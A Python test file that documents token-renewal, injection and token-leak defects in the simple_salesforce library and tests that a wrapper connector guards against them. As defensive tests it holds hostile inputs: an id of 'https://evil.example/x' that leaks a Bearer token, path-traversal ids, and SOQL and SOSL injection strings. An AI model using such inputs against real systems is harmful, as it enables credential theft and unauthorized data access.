"""
The vendor's library, unmodified, at the stand-in; and that what is wrong with it is not
to be reached through ATOM.

Each defect is shown in the library itself first: should a new version mend one, its test
fails, and the guard can be looked at again.
"""

import asyncio
from collections.abc import Callable
from typing import Any, TypeVar
from urllib.parse import urlsplit

import pytest
import requests
from requests import PreparedRequest, Response
from simple_salesforce.api import Salesforce
from simple_salesforce.exceptions import (
    SalesforceError,
    SalesforceExpiredSession,
    SalesforceGeneralError,
    SalesforceResourceNotFound,
)
from simple_salesforce.format import format_soql

from bridge.errors import BadInput, ServiceUnavailable
from bridge.records.forms import Deed
from bridge.records.model import Absence, Record, RecordRef, System
from bridge.records.ports import EditConflict, NotConnected, Rejected
from connectors.guarded import Limits
from connectors.salesforce import Salesforce as Records
from connectors.salesforce import Setup, soql
from tests.integration.salesforce.conftest import Acme
from tests.stand_ins import Told

_Result = TypeVar("_Result")
CONDITION = {"If-Unmodified-Since": "Sun, 29 Nov 2093 01:00:00 GMT"}


class Here(requests.Session):
    """Sends what is meant for Salesforce to the stand-in; remembers what was not."""

    def __init__(self, base: str) -> None:
        super().__init__()
        self.trust_env = False
        self.base = base
        self.strays: list[PreparedRequest] = []

    def send(self, request: PreparedRequest, **kwargs: Any) -> Response:
        split = urlsplit(str(request.url))
        ours = urlsplit(self.base)
        if split.hostname not in {ours.hostname, "acme.my.salesforce.com"}:
            self.strays.append(request)
            raise requests.ConnectionError("not in a test")
        path = split.path.removeprefix(ours.path)
        query = f"?{split.query}" if split.query else ""
        request.url = f"{self.base}{path}{query}"
        return super().send(request, **kwargs)


async def at(told: Told, work: Callable[[Salesforce, Here], _Result]) -> _Result:
    """Use the library in a thread, signed in with client credentials."""

    def inside() -> _Result:
        with Here(told.url) as session:
            library = Salesforce(
                consumer_key="atom",
                consumer_secret="atom-secret",
                domain="acme.my",
                session=session,
                version="62.0",
            )
            return work(library, session)

    return await asyncio.to_thread(inside)


async def test_it_signs_in_queries_and_pages(acme: Acme) -> None:
    acme.org.rest.page = 2

    def work(library: Salesforce, _session: Here) -> tuple[list[str], Any, Any]:
        query = "SELECT Id, Subject, Account.Name FROM Case ORDER BY CaseNumber"
        rows = library.query_all(query)["records"]
        return [row["Subject"] for row in rows], rows[0]["Account"], library.api_usage

    subjects, account, usage = await at(acme.told, work)

    assert len(subjects) == 3
    assert subjects[0].startswith("Login page")
    assert account["Name"] == "Globex & Sons"
    assert usage["api-usage"].total == 15_000


async def test_it_makes_changes_and_deletes(acme: Acme) -> None:
    def work(library: Salesforce, _session: Here) -> Any:
        kind: Any = library.Contact
        made = kind.create({"LastName": "Grimes"})
        assert kind.update(made["id"], {"Title": "Inspector"}) == 204
        assert kind.get(made["id"])["Title"] == "Inspector"
        assert kind.upsert("ATOM_Key__c/k1", {"LastName": "Frank"}) == 201
        assert kind.upsert("ATOM_Key__c/k1", {"LastName": "Grimey"}) == 200
        assert kind.delete(made["id"]) == 204
        with pytest.raises(SalesforceResourceNotFound) as error:
            kind.get(made["id"])
        return error.value.content

    (content,) = await at(acme.told, work)

    assert content["errorCode"] == "ENTITY_IS_DELETED"


async def test_it_describes_and_searches(acme: Acme) -> None:
    def work(library: Salesforce, _session: Here) -> tuple[Any, Any, Any]:
        kind: Any = library.Case
        found = library.search(
            "FIND {error} IN ALL FIELDS RETURNING Case(Id, Subject LIMIT 5)"
        )
        return kind.describe(), found, library.limits()

    described, found, limits = await at(acme.told, work)

    names = {one["name"]: one for one in described["fields"]}
    assert names["Reason"]["controllerName"] == "Type"
    assert [one["Id"] for one in found["searchRecords"]] == [acme.org.ids["crash"]]
    assert limits["DailyApiRequests"]["Max"] == 15_000


# Defect 1: a renewed token, and the condition is forgotten.


async def test_the_library_drops_a_condition_when_the_token_runs_out(
    acme: Acme,
) -> None:
    acme.told.fault("expire_token", "PATCH *")

    def work(library: Salesforce, _session: Here) -> None:
        kind: Any = library.Case
        kind.update(acme.org.ids["crash"], {"Priority": "Low"}, headers=dict(CONDITION))

    await at(acme.told, work)

    tries = [one for one in acme.org.journal.all() if one.method == "PATCH"]
    assert ["if-unmodified-since" in one.headers for one in tries] == [True, False]


async def test_atom_keeps_the_condition(acme: Acme) -> None:
    bob = acme.account("bob")
    ref = acme.ref("opportunity", "renewal")
    form = await acme.records.form(bob, "edit", ref)
    acme.told.fault("expire_token", "PATCH *")

    deed = Deed("edit", "k", ref, values={"NextStep": "Sign"}, base=form.rev)
    await acme.records.perform(bob, deed)

    tries = [one for one in acme.org.journal.all() if one.method == "PATCH"]
    conditions = [one.headers.get("if-unmodified-since") for one in tries]
    assert len(conditions) == 2
    assert conditions[0] == conditions[1] is not None


# Defect 2: a token that cannot be renewed, and no end of calls.


async def test_the_library_calls_without_end(acme: Acme) -> None:
    acme.told.fault("expire_token", "PATCH *", times=40)

    def work(library: Salesforce, _session: Here) -> None:
        kind: Any = library.Case
        kind.update(acme.org.ids["crash"], {"Priority": "Low"})

    await at(acme.told, work)

    assert len(acme.told.calls("PATCH")) == 41


async def test_atom_calls_twice_at_most(acme: Acme) -> None:
    bob, ref = acme.account("bob"), acme.ref("opportunity", "renewal")
    deed = Deed("edit", "k", ref, values={"NextStep": "Sign"})
    acme.told.fault("expire_token", "PATCH *", times=40)

    with pytest.raises(NotConnected):
        await acme.records.perform(bob, deed)

    assert len(acme.told.calls("PATCH")) == 2


# Defect 3: an id that is an address, and the token goes there.


async def test_the_library_sends_the_token_elsewhere(acme: Acme) -> None:
    def work(library: Salesforce, session: Here) -> list[PreparedRequest]:
        kind: Any = library.Case
        with pytest.raises(requests.ConnectionError):
            kind.delete("https://evil.example/x")
        return session.strays

    (stray,) = await at(acme.told, work)

    assert stray.url == "https://evil.example/x"
    assert str(stray.headers["Authorization"]).startswith("Bearer ")


@pytest.mark.parametrize(
    "id_",
    [
        "https://evil.example/x",
        "//evil.example",
        "../Account/0015g00000001000",
        "../../../../oauth2/revoke",
        "5005g0000000001?x",
        "5005g00000\x0000001",
        "5005g000000000é",
    ],
)
async def test_atom_asks_for_no_such_id(acme: Acme, id_: str) -> None:
    bob = acme.account("bob")

    with pytest.raises(BadInput):
        RecordRef(System.SALESFORCE, "acme", "case", id_)
    forged = RecordRef(System.SALESFORCE, "acme", "case", "x")
    object.__setattr__(forged, "id", id_)
    with pytest.raises(BadInput):
        await acme.records.perform(bob, Deed("take", "k", forged))
    there = acme.ref("case", "crash")
    found = await acme.records.read(bob, [forged, there])
    assert found[forged] is Absence.GONE
    assert isinstance(found[there], Record)

    asked = acme.org.journal.all()
    composite = "/services/data/v62.0/composite"
    assert {one.path for one in asked} <= {"/services/oauth2/userinfo", composite}
    assert not any(id_ in one.body for one in asked)


# Defect 4: values that are part of the query.


def test_the_library_puts_values_in_unquoted() -> None:
    sly = "x' OR Name != '"
    query = format_soql("SELECT Id FROM Account WHERE Name = {:s}", sly)

    assert query.endswith("Name = x' OR Name != '")


async def test_atom_quotes_every_value(acme: Acme) -> None:
    bob = acme.account("bob")

    found = await acme.records.resolve(
        bob, acme.records.recognise("CS-00001026 CS-00009999")
    )

    assert list(found) == ["CS-00001026"]
    query = acme.org.journal.all()[-1].query["q"]
    assert query.endswith("CaseNumber IN ('00001026', '00009999')")
    assert soql.quoted("x' OR Name != '") == r"'x\' OR Name != \''"


# Defect 5: words that are part of the search.


async def test_the_library_lets_words_be_syntax(acme: Acme) -> None:
    def work(library: Salesforce, _session: Here) -> Any:
        return library.quick_search("Wong} IN ALL FIELDS RETURNING User(Id, Email)//{x")

    with pytest.raises(SalesforceError):
        await at(acme.told, work)

    (asked,) = [one for one in acme.org.journal.all() if "search" in one.path]
    assert "} IN ALL FIELDS RETURNING User" in asked.query["q"]


async def test_atom_searches_for_plain_words(acme: Acme) -> None:
    bob = acme.account("bob")

    await acme.records.find(bob, "Wong} IN ALL FIELDS RETURNING User(Id, Email)", 5)

    assert acme.told.calls("GET /services/data/v62.0/search") == []
    (asked,) = [one for one in acme.org.journal.all() if "earch" in one.path]
    assert '"name": "User"' not in asked.body


# Defect 6: no time limits.


async def test_atom_waits_no_longer_than_it_says(acme: Acme) -> None:
    limits = Limits(deadline=0.5)
    hasty = Records(Setup("acme", acme.told.url), acme.budget, limits)
    acme.told.fault("delay", times=10, arg=600)

    with pytest.raises(ServiceUnavailable, match="too slow"):
        await hasty.form(acme.account("bob"), "edit", acme.ref("account", "globex"))

    await hasty.aclose()


# Defect 7: refusals that all look alike.


async def test_the_library_tells_no_conflict_from_an_outage(acme: Acme) -> None:
    acme.told.fault("412", "PATCH *")
    acme.told.fault("status", "PATCH *", arg=503)

    def work(library: Salesforce, _session: Here) -> set[type]:
        kind: Any = library.Case
        seen = set()
        for _ in range(2):
            with pytest.raises(SalesforceError) as error:
                kind.update(acme.org.ids["crash"], {"Priority": "Low"})
            seen.add(error.type)
        return seen

    assert await at(acme.told, work) == {SalesforceGeneralError}


async def test_the_library_stumbles_over_a_page(acme: Acme) -> None:
    acme.told.fault("html", "GET *")

    def work(library: Salesforce, _session: Here) -> None:
        library.query("SELECT Id FROM Case")

    with pytest.raises((ValueError, SalesforceExpiredSession)):
        await at(acme.told, work)


async def test_atom_says_what_it_was(acme: Acme) -> None:
    bob, ref = acme.account("bob"), acme.ref("opportunity", "renewal")

    def deed(step: str) -> Deed:
        return Deed("edit", step, ref, values={"NextStep": step})

    acme.told.fault("412", "PATCH *")
    with pytest.raises(EditConflict):
        await acme.records.perform(bob, deed("one"))
    acme.told.fault("status", "PATCH *", arg=503)
    with pytest.raises(ServiceUnavailable):
        await acme.records.perform(bob, deed("two"))
    with pytest.raises(Rejected):
        await acme.records.perform(bob, deed("x" * 300))
